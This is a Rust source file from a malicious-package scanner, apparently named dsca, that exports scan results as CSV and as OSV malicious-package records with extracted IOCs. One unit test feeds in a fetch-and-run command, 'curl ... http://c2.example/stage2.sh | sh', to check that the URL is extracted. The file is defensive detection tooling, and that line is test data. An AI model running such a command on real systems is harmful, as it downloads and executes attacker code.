//! Printers for `dsca export`: a stored result as a CSV line, and a malicious report as
//! an OSV record in the shape of the MAL- records of the OpenSSF malicious-packages
//! database, with the findings' evidence as IOCs.

use dsca_model::{Report, Source};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::net::IpAddr;

/// The OSV schema version the records follow.
const OSV_SCHEMA_VERSION: &str = "1.6.0";

/// The columns of `dsca export --format csv`, in order.
pub const CSV_HEADER: &str =
    "spec,name,version,verdict,score,popularity_rank,non_registry_dns,error_code,rules,scanned_at";

/// One CSV line (no line break) of `fields`, quoted as RFC 4180 asks.
pub fn csv_line<S: AsRef<str>>(fields: &[S]) -> String {
    fields
        .iter()
        .map(|field| csv_field(field.as_ref()))
        .collect::<Vec<_>>()
        .join(",")
}

/// RFC 4180: quote a field holding a comma, quote or line break; double its quotes.
fn csv_field(field: &str) -> String {
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.to_string()
    }
}

/// Indicators named in evidence text: URLs, IP addresses and URL host names, less the
/// registry the package itself came from.
#[derive(Default)]
struct Iocs {
    urls: BTreeSet<String>,
    ips: BTreeSet<String>,
    domains: BTreeSet<String>,
    /// Hosts of the registry and tarball URLs: where the package was fetched, not IOCs.
    own_hosts: BTreeSet<String>,
}

impl Iocs {
    fn excluding_source(source: &Source) -> Self {
        let mut iocs = Iocs::default();
        if let Source::Registry { registry, tarball } = source {
            for address in [registry, tarball] {
                if let Some(host) = url::Url::parse(address)
                    .ok()
                    .and_then(|url| url.host_str().map(str::to_ascii_lowercase))
                {
                    iocs.own_hosts.insert(host);
                }
            }
        }
        iocs
    }

    fn scan(&mut self, text: &str) {
        for token in text.split(|c: char| c.is_whitespace() || "\"'`()<>[]{},;".contains(c)) {
            let token = token.trim_end_matches(['.', ':', '|', '\\']);
            if token.starts_with("http://") || token.starts_with("https://") {
                if let Ok(url) = url::Url::parse(token) {
                    if url
                        .host_str()
                        .is_some_and(|host| self.own_hosts.contains(&host.to_ascii_lowercase()))
                    {
                        continue;
                    }
                    match url.host() {
                        Some(url::Host::Domain(domain)) => {
                            self.domains.insert(domain.to_ascii_lowercase());
                        }
                        Some(url::Host::Ipv4(ip)) => {
                            self.ips.insert(ip.to_string());
                        }
                        Some(url::Host::Ipv6(ip)) => {
                            self.ips.insert(ip.to_string());
                        }
                        None => {}
                    }
                    self.urls.insert(token.to_string());
                }
            } else if let Ok(ip) = token.parse::<IpAddr>() {
                self.ips.insert(ip.to_string());
            }
        }
    }
}

/// A stable id for a package version: `DSCA-MAL-` and 16 hex digits of an FNV-1a hash,
/// so the same finding exports under the same id from any store.
fn osv_id(name: &str, version: &str) -> String {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in format!("npm/{name}@{version}").bytes() {
        hash ^= u64::from(byte);
        hash = hash.wrapping_mul(0x0100_0000_01b3);
    }
    format!("DSCA-MAL-{hash:016x}")
}

/// The OSV record of a report judged malicious; `dynamic_dns`: the names it looked up
/// in the sandbox outside the registry (IOCs too).
pub fn osv_record(report: &Report, scanned_at: &str, dynamic_dns: &BTreeSet<String>) -> Value {
    let name = &report.package.name;
    let version = report.package.version.clone().unwrap_or_default();
    let mut iocs = Iocs::excluding_source(&report.source);
    let mut evidence = Vec::new();
    for finding in &report.findings {
        for item in &finding.evidence {
            iocs.scan(&item.detail);
            if let Some(snippet) = &item.snippet {
                iocs.scan(snippet);
            }
            let mut entry = json!({ "rule": finding.rule, "detail": item.detail });
            if let Some(location) = &item.location {
                entry["file"] = json!(location.file);
                if let Some(line) = location.line {
                    entry["line"] = json!(line);
                }
            }
            evidence.push(entry);
        }
    }
    iocs.domains.extend(dynamic_dns.iter().cloned());
    let reasons = report
        .verdict
        .as_ref()
        .map(|verdict| verdict.reasons.clone())
        .unwrap_or_default();
    let mut details = format!("dsca judged {name}@{version} malicious");
    if let Some(verdict) = &report.verdict {
        details.push_str(&format!(" (score {})", verdict.score));
    }
    details.push_str(".\n");
    for reason in &reasons {
        details.push_str(&format!("\n- {reason}"));
    }
    let mut affected = json!({
        "package": {
            "ecosystem": "npm",
            "name": name,
            "purl": format!("pkg:npm/{}", name.replacen('@', "%40", 1)),
        },
    });
    if !version.is_empty() {
        affected["versions"] = json!([version]);
    }
    json!({
        "schema_version": OSV_SCHEMA_VERSION,
        "id": osv_id(name, &version),
        "modified": scanned_at,
        "published": scanned_at,
        "summary": format!("Malicious code in {name} (npm)"),
        "details": details,
        "affected": [affected],
        "database_specific": {
            "source": "dsca",
            "score": report.verdict.as_ref().map(|verdict| verdict.score),
            "rules": report.findings.iter().map(|f| f.rule.clone()).collect::<BTreeSet<_>>(),
            "iocs": {
                "domains": iocs.domains,
                "ips": iocs.ips,
                "urls": iocs.urls,
            },
            "evidence": evidence,
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn iocs_come_from_evidence_but_not_from_the_packages_own_registry() {
        let mut iocs = Iocs::excluding_source(&Source::Registry {
            registry: "https://registry.npmjs.org/".to_string(),
            tarball: "https://registry.npmjs.org/x/-/x-1.0.0.tgz".to_string(),
        });
        iocs.scan("curl -s http://c2.example/stage2.sh | sh; ping 203.0.113.9.");
        iocs.scan(
            "fetched (https://registry.npmjs.org/x/-/x-1.0.0.tgz) and https://198.51.100.7:8443/p",
        );
        assert_eq!(
            iocs.urls.iter().collect::<Vec<_>>(),
            ["http://c2.example/stage2.sh", "https://198.51.100.7:8443/p"]
        );
        assert_eq!(iocs.domains.iter().collect::<Vec<_>>(), ["c2.example"]);
        assert_eq!(
            iocs.ips.iter().collect::<Vec<_>>(),
            ["198.51.100.7", "203.0.113.9"]
        );
    }

    #[test]
    fn csv_fields_are_quoted_only_when_needed() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn osv_ids_are_stable_per_package_version() {
        assert_eq!(osv_id("x", "1.0.0"), osv_id("x", "1.0.0"));
        assert_ne!(osv_id("x", "1.0.0"), osv_id("x", "1.0.1"));
        assert!(osv_id("@s/x", "1.0.0").starts_with("DSCA-MAL-"));
    }
}
